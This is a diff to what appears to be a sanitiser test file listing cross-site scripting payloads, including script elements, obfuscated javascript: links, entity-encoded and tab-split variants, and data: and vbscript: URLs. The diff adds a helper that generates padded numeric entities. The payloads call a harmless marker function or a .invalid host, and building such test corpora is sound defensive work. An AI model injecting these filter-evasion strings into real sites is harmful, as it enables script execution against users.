@@ -5,6 +5,10 @@ import type {Payload} from '../util/carriers.js'
 // the reader must still see, and which a script that runs reports (`xss('{m}')`), as a request that leaves the page
 // names it (`http://xss.invalid/{m}`).
 
+/** Each character as a decimal entity padded to seven digits, without the closing `;`, which HTML lets go. */
+const padded = (text: string): string =>
+  [...text].map((character) => `&#${String(character.codePointAt(0)).padStart(7, '0')}`).join('')
+
 const scriptTags: Payload[] = [
   {name: 'script element', text: "<script>xss('{m}')</script>"},
   {name: 'script from a server', text: '<SCRIPT SRC=http://xss.invalid/{m}.js></SCRIPT>'},
@@ -38,10 +42,7 @@ const urls: Payload[] = [
   {name: 'mixed-case javascript: link', text: '<a href="JaVaScRiPt:xss(\'{m}\')">{m}</a>'},
   {name: 'entity-encoded javascript:', text: '<a href="&#106;avascript:xss(\'{m}\')">{m}</a>'},
   {name: 'tab entity inside javascript:', text: '<a href="jav&#x09;ascript:xss(\'{m}\')">{m}</a>'},
-  {
-    name: 'padded numeric entities',
-    text: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058xss(1)">{m}</a>'
-  },
+  {name: 'padded numeric entities', text: `<a href="${padded('javascript:')}xss(1)">{m}</a>`},
   {name: 'leading space before javascript:', text: '<a href=" javascript:xss(\'{m}\')">{m}</a>'},
   {name: 'data: HTML link', text: '<a href="data:text/html,<script>xss(\'{m}\')</script>">{m}</a>'},
   {name: 'vbscript: link', text: '<a href="vbscript:msgbox(\'{m}\')">{m}</a>'},
